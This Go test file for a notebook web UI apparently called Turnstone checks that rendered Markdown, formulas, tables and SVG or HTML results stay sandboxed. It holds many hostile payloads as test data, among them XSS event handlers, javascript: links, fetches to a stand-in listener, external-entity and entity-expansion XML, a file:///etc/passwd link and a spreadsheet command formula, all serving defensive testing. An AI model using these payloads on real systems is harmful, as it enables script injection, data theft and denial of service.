//go:build unix

package webui

import (
	"fmt"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// hostilePrelude defines bad, a script that betrays itself wherever it could run. EAR stands for the address
// of the listener.
const hostilePrelude = showCode + `
import json
ear = "EAR"
bad = "top.ran=parent.ran=window.ran=1;fetch('" + ear + "/script')"
link = "javascript:" + bad
tag = '"><img src="' + ear + '/img" onerror="' + bad + '"><script>' + bad + '</script>'
def table(columns, index, rows, total=None):
    display({"application/vnd.turnstone.table+json": json.dumps({"v": 1, "columns": columns, "index": index, "rows": rows,
        "total": total or [len(rows), len(columns)]}), "text/html": "<p>as html", "text/plain": "a table"}, raw=True)`

// hostileForms are results in forms that the page itself draws, by the kind of the result.
var hostileForms = map[string]string{
	"links of Markdown": `for address in (link, "JaVaScRiPt:" + bad, "java\tscript:" + bad, "&#106;avascript:" + bad, "data:text/html,<script>" + bad + "</script>", "vbscript:x", "file:///etc/passwd", "//" + ear[7:], "/download/main?format=txt", "/s/other", "blob:x", ear + "/linked"):
    show("[click](" + address.replace(" ", "%20") + ") [ref][1] <" + address + "> ![alt](" + address + ")\n\n[1]: <" + address + "> 'a title'", "text/markdown")`,
	"HTML in Markdown": `for text in (tag, "<base href=" + ear + ">", "<style>@import '" + ear + "/css';*{display:none}</style>", "<meta http-equiv=refresh content='0;url=" + ear + "'>", "<iframe srcdoc='" + tag + "'></iframe>", "<object data=" + ear + ">", "<svg onload=" + bad + ">", "<form action=" + ear + "><input name=a></form>", "<details open ontoggle=" + bad + ">", "&lt;script&gt;" + bad + "&lt;/script&gt;"):
    show(text + "\n\n# " + text + "\n\n| " + text + " |\n|---|\n| " + text + " |\n\n- " + text + "\n\n` + "```" + `" + text + "\n" + text + "\n` + "```" + `\n\n> " + text + " $" + text + "$", "text/markdown")`,
	"deep and huge Markdown": `for text in (">" * 5000 + " deep", "\n".join("  " * i + "- item" for i in range(400)), "*" * 20000 + "a" + "*" * 20000, "[" * 20000, "` + "`" + `" * 20001, "![" * 5000 + "](" * 5000, "<" * 20000, "$" * 20000, "_a" * 10000, "\\" * 20000, "#" * 20000,
             "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n|" + "b|" * 2000, "|a|\n|-|\n" + "|b|\n" * 20000, "&" * 20000, "1. " * 3000, "> - " * 1500, "\u202e" * 5000, "[x]: y\n" * 5000):
    show(text, "text/markdown")`,
	"formulas": `for text in (r"\def\a{\a\a}\a", r"\def\a{\b}\def\b{\a}\a", r"\newcommand{\a}[1]{\a{#1#1}}\a{x}", r"\let\a=\b\let\b=\a\a", r"\gdef\frac#1#2{\text{stolen}}x", r"\def\a#1{#1#1#1#1#1#1#1#1}\a{\a{\a{\a{\a{x}}}}}",
             r"\href{" + link + "}{x}", r"\url{" + link + "}", r"\class{top}{x}", r"\id{app}{x}", r"\style{position:fixed;inset:0;background:url(" + ear + "/style)}{x}", r"\data{session=main}{x}", r"\includegraphics{" + ear + "/picture}", r"\text{" + tag + "}", r"\htmlId{app}{x}",
             r"\rule{99999em}{99999em}", r"\kern-9999em x", r"\hspace{-9999em}x", r"\raisebox{9999em}{x}", r"\rlap{x}\llap{" + "x" * 3000 + "}", "{" * 3900 + "}" * 3900, r"\sqrt{" * 1100 + "x" + "}" * 1100, "x^{" * 1900 + "}" * 1900, r"\begin{matrix}" + "&" * 7000 + r"\end{matrix}", r"\Huge" * 1000 + "x", r"\color{red;background:url(" + ear + "/color)}x", r"\colorbox{url(" + ear + ")}{x}"):
    show(text, "text/latex"); show("$" + text + "$ and $$" + text + "$$", "text/markdown")
show(r"\frac{a}{b}", "text/latex")`,
	"cells and names of tables": `rows = [[tag, "\u202egnp.exe"], ["\x00\x07\x1b[31m\x9b31m\r\n\t\u2028", "x" * 100000], [link, "=cmd|' /C calc'!A0"], ["{{7*7}}" + "\ufeff" * 500, "e" + "\u0301" * 5000]]
table([{"name": tag, "type": tag}, {"name": "\u202e\x00" * 50, "type": "int64", "align": "right"}], [tag, "\u202e", "__proto__", "x" * 100000], rows)
table([{"name": "a", "type": "x", "align": "\" onclick=" + bad}], None, [[tag]])
table([{"name": "__proto__", "type": "constructor"}], ["constructor"], [["__proto__"]], [10 ** 30, 1])
table([{"name": "a", "type": "x"}], None, [["x" * 10_000_000]])
table([{"name": str(i), "type": "x"} for i in range(5000)], None, [["1"] * 5000])
table([{"name": "a", "type": "x"}], None, [["1"]] * 100_000)`,
	"names of displays": `names = [tag, '"]' + tag, "\\", "\n", "\x00", "__proto__", "constructor", "app", "toasts", "\u202e", "a" * 100_000, "'", "]", "*", ":root", " "]
handles = [display({"text/markdown": "before"}, raw=True, display_id=name) for name in names]
for handle in handles: handle.update({"text/markdown": "after"}, raw=True)`,
	"drawings": `head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="50"'
for text in (">" + tag[2:], "><script xlink:href='" + ear + "/s'/><script>" + bad + "</script>", ' onload="' + bad + '">', "><a xlink:href='" + link + "'><text y='20' font-size='40'>click</text></a>", "><animate onbegin='" + bad + "' attributeName='x' dur='1s'/>", "><set attributeName='onmouseover' to='" + bad + "'/>",
             "><style>@import url('" + ear + "/css');text{fill:url('" + ear + "/fill#x');font-family:x}@font-face{font-family:x;src:url('" + ear + "/font')}</style><text y='9'>x</text>", "><feImage href='" + ear + "/fe'/><image href='" + ear + "/image'/><use href='" + ear + "/use#x'/>", "><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='" + ear + "/frame'/></foreignObject>",
             "><handler xmlns='http://www.w3.org/2001/xml-events'>" + bad + "</handler>", "><a href='" + ear + "/a' target='_top'><rect width='200' height='50'/></a>"):
    for kind in ("image/svg+xml", "text/html"): show(head + text + "</svg>", kind)
show("<?xml version='1.0'?><?xml-stylesheet href='" + ear + "/xsl'?><!DOCTYPE svg [<!ENTITY a SYSTEM '" + ear + "/entity'><!ENTITY b 'x'>" + "".join("<!ENTITY c%d '%s'>" % (i, ("&c%d;" % (i - 1) if i else "&b;") * 10) for i in range(9)) + "]>" + head + "><text>&a;&c8;</text></svg>", "image/svg+xml")`,
	"documents": `for text in ("<video autoplay src='data:video/mp4;base64,AAAAIGZ0eXBpc29t'></video><audio autoplay src='data:audio/wav;base64,UklGRg=='></audio><video poster='" + ear + "/poster'><track default src='" + ear + "/track'><source src='" + ear + "/source'></video>",
             "<base href='" + ear + "/' target=_top><img src=base><a href=a>" + "click " * 200 + "</a>", "<object data='data:text/html," + tag + "'></object><embed src='data:image/svg+xml," + tag + "'><object type=text/html data='" + ear + "/o'></object>", "<applet archive='" + ear + "/applet'></applet><portal src='" + ear + "/portal'></portal><fencedframe></fencedframe>",
             "<meta http-equiv=refresh content='0;url=" + link + "'>", "<meta http-equiv=refresh content='0;url=data:text/html," + tag + "'>", "<meta http-equiv=refresh content='0;url=/s/main'>", "<meta http-equiv=refresh content='0; url=/download/main?format=txt'>", "<meta http-equiv=Content-Security-Policy content='default-src *'><meta http-equiv=set-cookie content=a=1><img src='" + ear + "/csp'>",
             "<style>@import '" + ear + "/a';@import url(data:text/css,@import%20url(" + ear + "/b));body{background:image-set('" + ear + "/c' 1x);cursor:url(" + ear + "/d),auto;list-style-image:url(" + ear + "/e);filter:url(" + ear + "/f#x);mask:url(" + ear + "/g);content:url(" + ear + "/h)}</style><link rel=stylesheet href='data:text/css,@import%20url(" + ear + "/i)'><p style='border-image:url(" + ear + "/j)'>x",
             "<img srcset='" + ear + "/k 1x'><picture><source srcset='" + ear + "/l'><img></picture><input type=image src='" + ear + "/m'><table background='" + ear + "/n'><tr><td background='" + ear + "/o'>x</table><body background='" + ear + "/p'>", "<a href='" + link + "'>" + "click " * 200 + "</a>", "<a ping='" + ear + "/ping' href='" + ear + "/q' target=_blank>" + "click " * 200 + "</a>", "<a href='" + ear + "/r' target=_top>" + "click " * 200 + "</a>",
             "<form action='" + ear + "/s' target=_top><button style='width:100%;height:80px'>click</button></form>", "<script type=speculationrules>{\"prerender\":[{\"urls\":[\"" + ear + "/t\"]}]}</script>", "<frameset><frame src='" + ear + "/u'></frameset>", "<html manifest='" + ear + "/v'><p>x", "<link rel=dns-prefetch href='" + ear + "'><link rel=manifest href='" + ear + "/w'><link rel=preload as=font href='" + ear + "/x' crossorigin><link rel=search href='" + ear + "/y'>",
             "<button popovertarget=p>click</button><div id=p popover>" + tag + "</div><dialog open style='position:fixed;inset:0'>x</dialog>"):
    show(text); only(text)`,
}

// The page draws Markdown, formulas, tables and updates by itself, and documents in frames. None of them
// reaches the page or another server, also where the user clicks.
func TestPage_HostileForms(t *testing.T) {
	t.Parallel()
	for name, code := range hostileForms {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			e := newHTTPListener(t)
			s, b := openMain(t, strings.ReplaceAll(hostilePrelude, "EAR", e.URL))
			if reply := s.execCode("main", code); reply.Outcome != "ok" {
				t.Fatal(reply.Text())
			}
			b.waitUntil("the results are shown", `document.querySelector(".turn .display")`)
			b.setSize(1100, 2000)
			before := evalExpression[string](b, "location.href")
			evalExpression[bool](b, `(window.confirm = () => false, true)`) // a dialog would stop the page if a result moves its button under a click
			b.scrollThrough(b.clickForeign)
			b.takeScreenshot("hostile-" + strings.ReplaceAll(name, " ", "-"))
			if now := evalExpression[string](b, "location.href"); now != before {
				t.Errorf("the page went from %s to %s", before, now)
			}
			b.checkUntouched(e)
			b.runCode("40 + 2")
			b.waitUntil("the page works", `[...document.querySelectorAll(".turn")].some((turn) => turn.innerText.includes("ada") && turn.innerText.includes("42"))`)
			if name == "formulas" && !evalExpression[bool](b, `Boolean([...document.querySelectorAll(".rich math mfrac")].at(-1))`) {
				t.Error("a formula has changed the commands of later ones")
			}
			if left := evalExpression[string](b, `[...document.querySelectorAll(".display")].filter((d) => d.innerText.includes("before")).map((d) => JSON.stringify(d.dataset.display ?? "").slice(0, 100)).join("\n")`); left != "" {
				t.Errorf("updates of displays did not find them: %s", left)
			}
		})
	}
}

// A result that shrinks when it is clicked moves the buttons below it under the pointer. The next click of a
// double click does not count for them.
func TestPage_MovedButtons(t *testing.T) {
	t.Parallel()
	_, b := openMain(t, showCode, `show("<p style='height:300px'>double-click<script>onmousedown = () => parent.postMessage({height: 0}, '*')</script>")
show("<script>1</script>")`)
	b.waitUntil("the results are shown", `document.querySelectorAll(".files .more").length === 2`)
	evalExpression[bool](b, `(window.confirm = () => true, true)`)
	b.clickElement("button", "Run the scripts of this result")
	b.waitUntil("the scripts run, and the result is tall", `document.querySelector('iframe[src$="?scripts=run"]')?.clientHeight > 250`)
	evalExpression[bool](b, `(() => {
		const frame = document.querySelector("iframe"), find = (text) => [...document.querySelectorAll("button")].find((b) => b.innerText === text);
		window.all = () => {
			find("Always in this session").dispatchEvent(new MouseEvent("click", {bubbles: true, detail: 1}));
			return !find("Run the scripts of this result");
		};
		new MutationObserver((_, o) => { o.disconnect(); window.soon = all(); }).observe(frame, {attributes: true, attributeFilter: ["style"]});
		frame.scrollIntoView({block: "center"});
		return true;
	})()`)
	evalExpression[bool](b, stillFor)
	type point struct{ X, Y float64 }
	p := evalExpression[point](b, `((r) => ({X: r.left + 50, Y: r.top + 50}))(document.querySelector("iframe").getBoundingClientRect())`)
	b.runSteps(chromedp.MouseClickXY(p.X, p.Y))
	b.waitUntil("the result has shrunk", "window.soon !== undefined")
	if evalExpression[bool](b, "soon") {
		t.Error("a click just after the result has shrunk runs the scripts of all results")
	}
	b.waitUntil("a later click runs the scripts of all results", "all()")
}

// scrollThrough scrolls from the start to the end, and calls act for each part in view.
func (b *browserTab) scrollThrough(act func()) {
	b.t.Helper()
	for more, n := true, 0; more && n < 30; n++ {
		more = evalExpression[bool](b, fmt.Sprintf(`(async (scroll, first) => {
			`+turnWheel+`;
			const before = scroll.scrollTop;
			scroll.scrollTop = first ? 0 : before + 1500;
			await new Promise((r) => setTimeout(r, 100));
			return first || scroll.scrollTop > before;
		})(document.querySelector(".scroll"), %v)`, n == 0))
		act()
	}
}

// clickForeign clicks into the frames, and on the names and cells of tables, that are in view.
func (b *browserTab) clickForeign() {
	b.t.Helper()
	type point struct{ X, Y float64 }
	points := evalExpression[[]point](b, `[...document.querySelectorAll(".display iframe, .datatable th button, .datatable td")].slice(0, 40)
		.map((e) => e.getBoundingClientRect()).filter((r) => r.top > 80 && r.top < innerHeight - 120 && r.width > 0)
		.map((r) => ({X: r.left + Math.min(40, r.width / 2), Y: r.top + Math.min(16, r.height / 2)})).slice(0, 12)`)
	for _, p := range points {
		b.runSteps(chromedp.MouseClickXY(p.X, p.Y))
	}
}

// checkUntouched checks that no result has reached the page or the listener.
func (b *browserTab) checkUntouched(e *httpListener) {
	b.t.Helper()
	if evalExpression[bool](b, `Boolean(window.ran) || typeof fetch !== "function" || document.getElementById("app").tagName !== "DIV" || !document.title.endsWith("main – Turnstone") || Object.keys(Object.prototype).length > 0`) {
		b.t.Error("a result has reached the page")
	}
	if bad := evalExpression[string](b, `[...document.querySelectorAll("#app :is(script, style, object, embed, base, meta, link, video, form[action], [style*='url('])")].concat(
		[...document.querySelectorAll("#app *")].filter((e) => [...e.attributes].some((a) => a.name.startsWith("on"))),
		[...document.querySelectorAll("#app [href]")].filter((a) => !/^(https?|blob):/.test(a.href)),
		[...document.querySelectorAll("#app iframe")].filter((f) => !f.src.startsWith(location.origin + "/frame/") || !f.sandbox.length || f.sandbox.contains("allow-top-navigation") || f.sandbox.contains("allow-popups"))
	).map((e) => e.outerHTML.slice(0, 200)).join("\n")`); bad != "" {
		b.t.Errorf("elements of results are in the page itself: %s", bad)
	}
	if requests := e.requestList(); len(requests) != 0 {
		b.t.Errorf("the listener received requests: %v", requests)
	}
}
